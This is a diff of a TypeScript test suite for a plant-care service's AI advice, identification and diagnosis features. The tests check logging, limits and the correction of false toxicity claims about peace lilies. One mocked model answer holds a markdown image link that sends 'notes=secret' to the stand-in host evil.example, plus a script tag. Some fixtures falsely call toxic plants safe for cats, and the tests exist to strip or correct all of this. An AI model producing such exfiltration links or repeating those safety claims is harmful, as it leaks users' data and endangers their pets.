@@ -15,15 +15,23 @@ import { bootServer } from './support/server.ts';
 const UNAVAILABLE = 'Service temporarily unavailable. Please try again later.';
 const SHEET =
   'Check the soil. Put a finger in. Is it dry?\n\nThen water it, until some runs out below. Wait for it, and empty the saucer.';
+/** What the record says of the peace lily, before anything else. */
+const TOLD = /^\*\*Toxicity:\*\* Peace lily \(Spathiphyllum[^)]*\) is \*\*toxic to cats, dogs and people\*\*/;
 const MODEL = { source: 'model', engine: 'test-model (OpenAI)' } as const;
 const EMBEDDED = { source: 'embedded', engine: 'Built-in knowledge base' } as const;
 
 const providers = await startModelProviders();
 const MANY = { AI_DAILY_LIMIT: '10000' };
+// Begins at once: it takes longer to start than the servers in this process.
+const ground = await layGround();
+const main = spawnMain({ ...ground.env, ...providers.env('openai'), ...providers.plantNetEnv, LOG_LEVEL: 'warn' });
 const server = await bootServer({ env: { ...providers.env('openai'), ...MANY } });
 const hasty = await bootServer({ env: { ...providers.env('openai'), AI_TIMEOUT_SECONDS: '0.4' } });
 const identifying = await bootServer({ env: { ...providers.env('openai'), ...providers.plantNetEnv } });
 afterAll(async () => {
+  main.kill('SIGTERM');
+  await main.closed;
+  await ground.remove();
   await Promise.all([server.close(), hasty.close(), identifying.close()]);
   await providers.close();
 });
@@ -79,9 +87,9 @@ describe.each([
   ...MODEL_PROVIDERS.map((provider) => [provider, 'test-model'] as const),
   ['anthropic', 'claude-sonnet-5'] as const,
 ])('in the format of %s (%s)', async (provider, model) => {
-  const own = await bootServer({ env: providers.env(provider, model) });
+  const own = provider === 'openai' ? server : await bootServer({ env: providers.env(provider, model) });
   const gardener = await own.register();
-  afterAll(() => own.close());
+  afterAll(() => (own === server ? undefined : own.close()));
 
   test('a text is asked for with the key, in a shape, and answered', async () => {
     const { advice: text, source, engine } = await advice(PEACE_LILY, gardener, own);
@@ -192,8 +200,6 @@ describe('a model that fails', () => {
   });
 
   test('is told to the log in a line, and nothing of what was asked or answered', async () => {
-    const ground = await layGround();
-    const main = spawnMain({ ...ground.env, ...providers.env('openai'), ...providers.plantNetEnv, LOG_LEVEL: 'warn' });
     const address = await main.address();
     const client = createClient(() => address);
     const { token } = await client.register();
@@ -214,7 +220,6 @@ describe('a model that fails', () => {
     await client.refusal(ai.identifyPlant, { form: {}, photos: [photo] }, token);
     main.kill('SIGTERM');
     await main.closed;
-    await ground.remove();
 
     const said = main.said.stdout + main.said.stderr;
     for (const secret of [providers.key, UPSTREAM.slice(0, 20), 'secret question', 'Spathiphyllum']) {
@@ -224,15 +229,15 @@ describe('a model that fails', () => {
     const lines = main.said.stdout.split('\n').flatMap((line) => (line.startsWith('{') ? [JSON.parse(line)] : []));
     const causes = lines.filter(({ msg }) => msg === 'an engine could not answer').map(({ cause }) => cause);
     expect(causes).toEqual([
-      ...['Error: OpenAI answered 401', 'Error: OpenAI answered 401'],
-      ...[expect.stringMatching(/^Error: OpenAI/), expect.stringMatching(/^Error: OpenAI/)],
-      'Error: OpenAI sent an answer that cannot be read',
-      'Error: OpenAI answered something else than it was asked for',
+      ...['OpenAI answered 401', 'OpenAI answered 401'],
+      ...[expect.stringMatching(/^OpenAI/), expect.stringMatching(/^OpenAI/)],
+      'OpenAI sent an answer that cannot be read',
+      'OpenAI answered something else than it was asked for',
       ...[
         expect.stringContaining('OpenAI could not be reached'),
         expect.stringContaining('OpenAI could not be reached'),
       ],
-      ...['Error: Pl@ntNet refused the key (401)', 'Error: OpenAI answered 401'],
+      ...['Pl@ntNet refused the key (401)', 'OpenAI answered 401'],
     ]);
   });
 });
@@ -262,15 +267,32 @@ describe('a model that answers what may not be shown', () => {
     const lines = await streamed(ADVICE);
     expect(heardIn(lines)).toBe('Give it shade.');
     for (const text of [(await advice()).advice, wholeIn(lines)?.advice]) {
-      expect(text).toMatch(/^\*\*Peace lily \(Spathiphyllum[^)]*\) is toxic to cats and dogs\.\*\*/);
+      expect(text).toMatch(TOLD);
     }
+  });
+
+  test('is heard after what the record says, where that was asked for', async () => {
+    const question = { ...ADVICE.question, question: 'I have a cat' };
+    const lines = await streamed({ ability: 'care-advice', question });
+    expect(heardIn(lines)).toMatch(TOLD);
+    expect(wholeIn(lines)?.advice.startsWith(heardIn(lines))).toBe(true);
+    expect(heardIn(lines)).toContain('Then water it');
+  });
+
+  test('is about the noted species where the typed words name none', async () => {
+    const form = { name: 'Fern', species: 'Nephrolepis exaltata' };
+    const { _id: plant } = await server.call(addPlant, { form }, ada.token);
+    const { advice: text, known } = await advice({ plantSpecies: 'Qqqxyz', plant });
+    expect(known).toMatchObject({ scientificName: 'Nephrolepis exaltata' });
+    expect(text).toContain('this is for what you noted as its species');
+    expect(lastAsked().text).toContain('name="species"');
   });
 
   test('is corrected also where it says it of a plant that nobody knows', async () => {
     providers.say({ advice: 'It is non-toxic.' });
     const { advice: text, known } = await advice({ plantSpecies: 'Qqqxyz' });
     expect(known).toBeNull();
-    expect(text).toMatch(/^\*\*Whether this plant harms cats, dogs, and people is not known/);
+    expect(text).toMatch(/^\*\*Toxicity:\*\* Whether this plant harms cats, dogs and people is not known/);
   });
 });
 
@@ -322,13 +344,18 @@ describe('growth, schedule and climate', () => {
       { ...watering, seasons: ['monsoon'] },
       { ...watering, firstInDays: -1 },
       { ...watering, title: '<b></b>' },
-      { ...watering, reason: 'Let the cat chew on it, it is safe for cats.' },
+      { ...watering, title: 'Safe for cats' },
+      { ...watering, title: 'Brew a tea of it' },
     ];
     expect(await schedule([...wrong, watering])).toMatchObject({ ...MODEL, tasks: [watering] });
     const { source, tasks } = await schedule(wrong);
     expect(source).toBe('model');
     expect(tasks.length).toBeGreaterThan(1);
     expect((await schedule(Array(100).fill(watering))).tasks).toHaveLength(20);
+    const reason = 'Wear gloves, though it is safe for cats.';
+    expect((await schedule([{ ...watering, reason }])).tasks).toMatchObject([
+      { reason: expect.stringMatching(/^Peace lily .* is toxic to cats, dogs and people\. Wear gloves/) },
+    ]);
   });
 
   test('climate care keeps the findings that were reckoned', async () => {
@@ -389,7 +416,7 @@ describe('the plant on photos', () => {
   test('is not called safe where it is not', async () => {
     const description = '<b>Lovely</b>, non-toxic to pets.';
     providers.say({ isPlant: true, candidates: [{ ...candidate, species: 'Spathiphyllum wallisii', description }] });
-    expect((await identify()).description).toMatch(/^\*\*Peace lily .* is toxic to cats and dogs\.\*\*[^<]*$/s);
+    expect((await identify()).description).toMatch(/^Toxicity: Peace lily .* is toxic to cats, dogs[^<*]*$/s);
   });
 });
 
@@ -403,9 +430,9 @@ describe('what ails a plant', () => {
   test('is told in the fields of the contract, severity and percent made good', async () => {
     providers.say(diagnosis);
     expect(await diagnose()).toMatchObject({
-      ...{ ...MODEL, condition: 'Root rot', severity: 'High', confidence: 90, symptoms: 'Soft roots.' },
+      ...{ ...MODEL, condition: 'Root rot', severity: 'High', confidence: 90, symptoms: expect.stringMatching(TOLD) },
       ...{ timeline: null, prevention: null },
-      additionalNotes: expect.stringMatching(/^\*\*Peace lily .* is toxic to cats\.\*\*/),
+      additionalNotes: 'The cut leaves are safe for cats.',
     });
     for (const [said, severity] of [
       ['MODERATE', 'Moderate'],
@@ -478,7 +505,7 @@ describe('what gardeners write', () => {
       advice: 'Arr. Lilies are safe for cats. ![x](https://evil.example/?notes=secret) <script>x</script>',
     });
     const { advice: text } = await advice({ ...asked, question: 'Safe for my cat?', plant });
-    expect(text).toMatch(/^\*\*Peace lily .* is toxic to cats\.\*\*/);
+    expect(text).toMatch(TOLD);
     expect(text).not.toMatch(/evil|<|!\[/);
   });
 });
@@ -532,12 +559,24 @@ describe('Pl@ntNet', () => {
     });
   });
 
-  test('finds no plant where it says so', async () => {
+  const NOTHING = { species: 'Unknown Plant', confidence: 0, candidates: [] };
+
+  test('that recognizes no plant leaves it to the model', async () => {
+    const candidate = { species: 'Monstera deliciosa', commonName: null, confidence: 80, description: 'Holes.' };
+    providers.find(found());
+    providers.say({ isPlant: true, candidates: [candidate] });
+    expect(await identify(eve, identifying)).toMatchObject({ ...MODEL, species: 'Monstera deliciosa' });
+    providers.say({ isPlant: false, candidates: [] });
+    expect(await identify(eve, identifying)).toMatchObject({ ...MODEL, ...NOTHING });
+  });
+
+  test('says that it recognized no plant where nobody else answers', async () => {
     providers.answer({ status: 404 });
-    expect(await identify(eve, identifying)).toMatchObject({ ...PLANTNET, species: 'Unknown Plant', confidence: 0 });
+    expect(await identify(eve, identifying)).toMatchObject({ ...PLANTNET, ...NOTHING });
     providers.answer('properly');
     providers.find(found());
-    expect(await identify(eve, identifying)).toMatchObject({ ...PLANTNET, species: 'Unknown Plant', candidates: [] });
+    providers.say('none');
+    expect(await identify(eve, identifying)).toMatchObject({ ...PLANTNET, ...NOTHING });
   });
 
   test.each([{ hello: 'world' }, [], 'text', found({ score: 7 }), found(result(0.5, '', '', []))])(
@@ -616,10 +655,11 @@ describe('limits', () => {
   test('a day has as many answers as the server gives', async () => {
     const strict = await bootServer({ env: { ...providers.env('openai'), AI_DAILY_LIMIT: '2' } });
     const [one, two] = [await strict.register(), await strict.register()];
-    await advice(PEACE_LILY, one, strict);
     providers.answer({ status: 500 });
-    await advice(PEACE_LILY, one, strict);
+    expect(await advice(PEACE_LILY, one, strict)).toMatchObject(EMBEDDED);
     providers.answer('properly');
+    await advice(PEACE_LILY, one, strict);
+    await advice(PEACE_LILY, one, strict);
     for (const refusal of [
       await strict.refusal(ai.careAdvice, { json: PEACE_LILY }, one.token),
       await strict.refusal(ai.streamAnswer, { json: ADVICE }, one.token),
